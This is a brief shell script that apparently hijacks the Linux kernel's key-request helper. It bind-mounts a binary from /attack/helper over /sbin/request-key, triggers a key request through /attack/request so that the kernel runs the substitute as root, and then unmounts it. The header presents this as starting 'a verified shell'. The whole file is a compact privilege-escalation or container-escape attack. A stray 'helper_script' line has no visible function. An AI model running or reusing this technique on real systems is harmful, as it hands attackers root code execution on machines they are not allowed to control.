# shellcheck shell=sh
#
# request-key - let the kernel start a verified shell instead of request-key
#
# SPDX-License-Identifier: MIT

helper_script
mount --bind /attack/helper /sbin/request-key
/attack/request
sleep 1
umount /sbin/request-key
